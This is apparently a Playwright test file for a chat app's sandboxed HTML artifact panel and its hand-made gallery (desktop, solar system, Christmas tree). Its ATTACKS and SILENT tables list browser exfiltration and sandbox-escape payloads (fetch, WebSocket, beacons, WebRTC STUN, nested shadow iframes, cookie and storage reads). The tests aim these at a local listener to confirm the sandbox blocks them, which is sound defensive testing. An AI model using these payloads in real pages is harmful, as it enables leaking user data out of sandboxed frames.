"""Artifacts: documents of HTML beside the chat, in a frame that reaches nothing; and the gallery."""

# ruff: noqa: E501 -- lines of HTML and script stay whole

import re
import socket
import threading

import pytest


def test_a_document_runs_in_the_panel(chat):
    chat.ask("artifact")
    assert chat.page.locator("#artifact").is_hidden()  # not unasked
    chat.button("Open").click()
    chat.artifact().get_by_text("tock").wait_for()
    assert chat.page.locator(".artifact-title").inner_text() == "A clock"
    chat.page.click("#tab-code")
    assert "<title>A clock</title>" in chat.page.locator(".artifact-code").inner_text()
    assert chat.page.locator(".artifact-code .hljs-name").count() > 0
    chat.page.keyboard.press("ArrowLeft")
    assert chat.page.locator("#tab-preview").get_attribute("aria-selected") == "true"
    chat.page.click(".artifact-close")
    assert chat.page.locator("#artifact").is_hidden()
    assert chat.page.locator("iframe").count() == 0
    assert chat.page.evaluate("document.activeElement.textContent") == "Open"


def test_a_document_without_a_fence_is_one_too(chat):
    chat.ask("bare")
    chat.button("Open").click()
    chat.artifact().get_by_text("tock").wait_for()


def test_reload_starts_anew_and_full_screen_fills_the_window(chat):
    chat.ask("html <!doctype html><button onclick='this.textContent = 1 + +this.textContent'>0</button>")
    chat.button("Open").click()
    count = chat.artifact().get_by_role("button")
    count.click()
    assert count.inner_text() == "1"
    chat.page.click(".artifact-reload")
    chat.artifact().get_by_text("0").wait_for()
    chat.page.click(".artifact-full")
    assert chat.page.locator(".artifact-full").get_attribute("aria-pressed") == "true"
    box = chat.page.locator("#artifact").bounding_box()
    assert (box["x"], box["width"]) == (0, 1280)
    assert chat.page.locator("#chat").get_attribute("inert") is not None
    chat.page.click(".artifact-full")
    assert chat.page.locator("#artifact").bounding_box()["x"] > 0
    assert chat.page.locator("#chat").get_attribute("inert") is None


def test_while_it_streams_the_code_is_shown_then_the_preview(chat):
    chat.set(autoOpen=True)
    chat.send("slowartifact")
    chat.page.locator("#artifact").wait_for()
    assert chat.page.locator("#tab-code").get_attribute("aria-selected") == "true"
    assert chat.page.locator("iframe").count() == 0
    chat.page.locator("#view-code").get_by_text("<title>A clock").wait_for()
    chat.artifact().get_by_text("tock").wait_for()
    assert chat.page.locator("#tab-preview").get_attribute("aria-selected") == "true"
    assert chat.answer.get_attribute("aria-busy") == "true"  # before the answer's end
    chat.finished()


def test_errors_of_a_document_are_told(chat):
    chat.ask("html <!doctype html><script>console.error('first', 1); setTimeout(() => { throw new Error('second <b>') }, 300)</script>")
    chat.button("Open").click()
    problem = chat.page.locator(".artifact-problem")
    problem.get_by_text("first 1").wait_for()
    problem.get_by_text("second <b>").wait_for()
    chat.errors.clear()  # the document's, not the page's


@pytest.fixture
def outside():
    """Listens on TCP and UDP; `came` is what reached it."""
    tcp = socket.create_server(("127.0.0.1", 0))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    came = []

    def accept():
        while True:
            try:
                connection, _ = tcp.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(1)
                try:
                    came.append(connection.recv(100) or b"a connection")
                except TimeoutError:
                    came.append(b"a connection")

    def receive():
        while True:
            try:
                came.append(udp.recv(100))
            except OSError:
                return

    threads = [threading.Thread(target=work, daemon=True) for work in (accept, receive)]
    for thread in threads:
        thread.start()
    came_in = type("Outside", (), {"came": came, "tcp": f"127.0.0.1:{tcp.getsockname()[1]}", "udp": f"127.0.0.1:{udp.getsockname()[1]}"})
    yield came_in
    tcp.close()
    udp.close()


def aimed(text, outside):
    """An attack with the listener's addresses where it says TCP and UDP."""
    return re.sub(r"\bTCP\b", outside.tcp, re.sub(r"\bUDP\b", outside.udp, text))


STUN = (
    "const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:UDP'}, {urls: 'turn:TCP?transport=tcp', username: 'a', credential: 'b'}]});"
    "peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));"
)
# What each attempt does; it says "refused" by itself, or by an error or event that the browser gives it.
ATTACKS = {
    "fetch": "await fetch('http://TCP/fetch')",
    "fetch without CORS": "await fetch('http://TCP/fetch', {mode: 'no-cors'})",
    "fetch of the page's own server": "await fetch('/v1/models')",
    "XHR": "await new Promise((ok, no) => { const x = new XMLHttpRequest(); x.onload = ok; x.onerror = () => no('error'); x.open('GET', 'http://TCP/xhr'); x.send(); })",
    "WebSocket": "await new Promise((ok, no) => { const w = new WebSocket('ws://TCP/ws'); w.onopen = ok; w.onerror = () => no('error'); })",
    "EventSource": "await new Promise((ok, no) => { const s = new EventSource('http://TCP/es'); s.onopen = ok; s.onerror = () => no('error'); })",
    "image beacon": "await new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = () => no('error'); i.src = 'http://TCP/i.png'; })",
    "sendBeacon": "navigator.sendBeacon('http://TCP/beacon', 'x'); await violated()",
    "style sheet": "await new Promise((ok, no) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = ok; l.onerror = () => no('error'); l.href = 'http://TCP/s.css'; document.head.append(l); })",
    "CSS image": "document.body.style.background = 'url(http://TCP/b.png)'; await violated()",
    "font": "await new FontFace('x', 'url(http://TCP/f.woff2)').load()",
    "script": "await new Promise((ok, no) => { const s = document.createElement('script'); s.onload = ok; s.onerror = () => no('error'); s.src = 'http://TCP/s.js'; document.head.append(s); })",
    "import": "await import('http://TCP/m.js')",
    "video": "await new Promise((ok, no) => { const v = document.createElement('video'); v.onloadeddata = ok; v.onerror = () => no('error'); v.src = 'http://TCP/v.mp4'; })",
    "prefetch": "document.head.insertAdjacentHTML('beforeend', '<link rel=prefetch href=http://TCP/p>'); await violated()",
    "form post": "const f = document.createElement('form'); f.method = 'post'; f.action = 'http://TCP/form'; document.body.append(f); f.submit(); await silence()",
    "top navigation": "top.location = 'http://TCP/top'; await silence()",
    "top navigation, set by href": "top.location.href = 'http://TCP/top'; await silence()",
    "popup": "if (open('http://TCP/popup')) throw new Succeeded(); throw 'null'",
    "link in a new window": "document.body.insertAdjacentHTML('beforeend', '<a id=l target=_blank href=http://TCP/l>x</a>'); l.click(); await silence()",
    "cookies": "document.cookie",
    "setting a cookie": "document.cookie = 'a=1'",
    "localStorage": "localStorage.getItem('mimoflash-settings')",
    "sessionStorage": "sessionStorage.length",
    "IndexedDB": "await new Promise((ok, no) => { const r = indexedDB.open('mimoflash'); r.onsuccess = ok; r.onerror = () => no('error'); })",
    "caches": "await caches.keys()",
    "parent's document": "parent.document.body.textContent",
    "parent's variables": "parent.localStorage",
    "frame element": "if (frameElement) throw new Succeeded(); throw 'null'",
    "worker from a blob": "new Worker(URL.createObjectURL(new Blob(['fetch(\"http://TCP/worker\")']))); await violated()",
    "worker from the server": "new Worker('/page/theme.js'); await violated()",
    "evaluated worker": "eval(\"new Worker('data:text/javascript,fetch(%22http://TCP/w%22)')\"); await violated()",
    "service worker": "await navigator.serviceWorker.register('/page/theme.js')",
    "WebTransport": "await new WebTransport('https://UDP/').ready",
    "WebRTC": STUN,
    "frame inside": "document.body.insertAdjacentHTML('beforeend', '<iframe src=http://TCP/frame></iframe>'); await violated()",
    "clipboard": "await navigator.clipboard.readText()",
    "geolocation": "await new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, () => no('denied')))",
    "camera": "await navigator.mediaDevices.getUserMedia({video: true})",
}
HARNESS = """<!doctype html><body><script>
  class Succeeded extends Error {}
  const violated = () => new Promise((ok, no) => {
    addEventListener('securitypolicyviolation', (event) => no('policy ' + event.effectiveDirective), {once: true});
    setTimeout(ok, 1500);
  });
  const silence = () => new Promise((ok, no) => setTimeout(() => no('nothing happened'), 1200));
  const say = (text) => setInterval(() => parent.postMessage({problem: text}, '*'), 200);
  (async () => { try { ATTACK; say('SUCCEEDED'); } catch (error) { say(error instanceof Succeeded ? 'SUCCEEDED' : 'refused: ' + (error.name ?? error)); } })();
</script>"""


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_artifact_reaches_nothing(chat, outside, attack):
    body = aimed(HARNESS.replace("ATTACK", ATTACKS[attack]), outside)
    chat.page.context.add_cookies([{"name": "secret", "value": "1", "url": chat.url}])
    chat.ask("html " + body.replace("\n", " "))
    chat.button("Open").click()
    problem = chat.page.locator(".artifact-problem")
    problem.get_by_text("refused").or_(problem.get_by_text("SUCCEEDED")).wait_for(timeout=5000)  # it ran
    assert "SUCCEEDED" not in problem.inner_text()
    chat.page.wait_for_timeout(300)
    assert outside.came == []
    assert chat.page.url.startswith(chat.url)
    assert len(chat.page.context.pages) == 1


NESTED = "<script>" + STUN + "fetch('http://TCP/nested')</script>"
SILENT = {  # these cannot say how they end: they ran if they say so, and the outside must hear nothing
    "own navigation": "<script>say(); location.href = 'http://TCP/own'</script>",
    "refresh": "<script>say()</script><meta http-equiv=refresh content='0;url=http://TCP/refresh'>",
    "base": "<base href='http://TCP/'><img src=x.png><script>say()</script>",
    "speculation rules": '<script>say()</script><script type=speculationrules>{"prefetch": [{"source": "list", "urls": ["http://TCP/s"]}]}</script>',
    "preconnect": "<link rel=preconnect href='http://TCP/'><link rel=dns-prefetch href='http://TCP/'><script>say()</script>",
    "a frame of its own with WebRTC": f'<iframe srcdoc="{NESTED}"></iframe><script>say()</script>',
    "a frame in a shadow": f"<div id=h></div><script>const f = document.createElement('iframe'); f.srcdoc = `{NESTED.replace('</', '<' + chr(92) + '/')}`; "
    "h.attachShadow({mode: 'closed'}).append(f); say()</script>",
    "a frame in a written shadow": f'<div><template shadowrootmode=closed><iframe srcdoc="{NESTED}"></iframe></template></div><script>say()</script>',
    "a frame in a shadow written by script": "<script>document.write('<div><template shadowroot' + 'mode=closed><iframe srcdoc=\""
    + NESTED.replace("'", "&quot;").replace("</", "<\\/") + "\"></iframe></template></div>'); say()</script>",
}


@pytest.mark.parametrize("attack", SILENT)
def test_an_artifact_gets_nothing_out_without_a_word(chat, outside, attack):
    body = aimed(SILENT[attack], outside)
    chat.ask("html <!doctype html><head><script>const tell = () => parent.postMessage({problem: 'it ran'}, '*'); "
        "const say = () => { tell(); setInterval(tell, 200) }</script></head><body>" + body)
    chat.button("Open").click()
    chat.page.locator(".artifact-problem").get_by_text("it ran").wait_for()
    chat.page.wait_for_timeout(2000)
    assert [heard for heard in outside.came if heard != b"a connection"] == []
    assert outside.came == []
    assert chat.page.url.startswith(chat.url)
    assert chat.page.locator("#chat").is_visible()


def test_the_attacks_would_be_heard(chat, outside):
    """The same words in a page without the sandbox do arrive: the listener is not deaf."""
    chat.page.evaluate(f"fetch('http://{outside.tcp}/heard', {{mode: 'no-cors'}}).catch(() => 0)")
    chat.page.evaluate("() => {" + aimed(STUN, outside) + "}")
    chat.page.wait_for_timeout(1500)
    assert any(heard.startswith(b"GET /heard") for heard in outside.came)
    assert any(heard[:2] == b"\x00\x01" for heard in outside.came)  # a STUN request


def test_a_document_that_loads_the_frame_again_is_not_served_twice(chat):
    chat.ask("html <!doctype html><script>parent.postMessage({problem: 'it ran'}, '*'); setTimeout(() => { location.href = '/page/artifact.html?again' }, 300)</script>")
    chat.button("Open").click()
    chat.page.locator(".artifact-problem").get_by_text("it ran").wait_for()
    chat.page.wait_for_timeout(1000)
    assert chat.page.locator("#chat").is_visible()


@pytest.mark.parametrize(("title", "sign"), [("A desktop", "Terminal"), ("The solar system", "Follow"), ("A Christmas tree", "Surprise me")])
def test_the_gallery_is_marked_as_made_by_hand(chat, title, sign):
    chat.page.click("#sidebar .open-gallery")
    assert "no model wrote them" in chat.page.locator("#gallery-dialog").inner_text()
    chat.page.locator(".card", has_text=title).click()
    chat.artifact().get_by_text(sign).first.wait_for()
    assert chat.page.locator(".artifact-note").inner_text() == "Example made by hand, not the model’s output"
    chat.page.wait_for_timeout(400)
    assert chat.page.locator(".artifact-problem").is_hidden()


def test_the_desktop_works(chat):
    chat.page.click("#sidebar .open-gallery")
    chat.page.locator(".card", has_text="A desktop").click()
    desk = chat.artifact()
    prompt = desk.get_by_label("Command")
    for command in ("echo hello there > new.txt", "cat new.txt", "wc new.txt", "nonsense"):
        prompt.fill(command)
        prompt.press("Enter")
    screen = desk.locator(".terminal").inner_text()
    assert "hello there" in screen
    assert "1 lines, 2 words" in screen
    assert "nonsense: not found" in screen
    desk.locator(".notes nav button", has_text="new.txt").dispatch_event("click")
    assert desk.get_by_label("Text").input_value() == "hello there"

    window = desk.locator("section[aria-label=Terminal]")
    before = window.bounding_box()
    chat.page.mouse.move(before["x"] + 100, before["y"] + 12)
    chat.page.mouse.down()
    chat.page.mouse.move(before["x"] + 70, before["y"] + 72, steps=4)
    chat.page.mouse.up()
    after = window.bounding_box()
    assert after["y"] - before["y"] == pytest.approx(60, abs=2)
    desk.get_by_label("Minimise Terminal").click()
    assert window.is_hidden()
    desk.locator("#tasks button", has_text="Terminal").click()
    assert window.is_visible()


def test_the_tree_takes_clicks_and_the_planets_move(chat):
    chat.page.click("#sidebar .open-gallery")
    chat.page.locator(".card", has_text="Christmas").click()
    chat.artifact().get_by_text("Lights").wait_for()
    frame = chat.page.frames[-1]
    box = chat.page.locator("iframe").bounding_box()
    chat.page.mouse.click(box["x"] + box["width"] / 2, box["y"] + box["height"] * 0.6)
    assert frame.evaluate("pieces.length") == 1
    chat.page.click("#sidebar .open-gallery")
    chat.page.locator(".card", has_text="solar").click()
    chat.artifact().get_by_text("Follow").wait_for()
    frame = chat.page.frames[-1]
    frame.select_option("#follow", "Mars")
    assert "1.524 au" in frame.locator(".card").inner_text()
    # Mars at its perihelion of 2020-08-03: 1.3814 au
    assert frame.evaluate("Math.hypot(...onOrbit(PLANETS[3], anomalyOf(PLANETS[3], Date.UTC(2020, 7, 3))))") == pytest.approx(1.3814, abs=0.001)
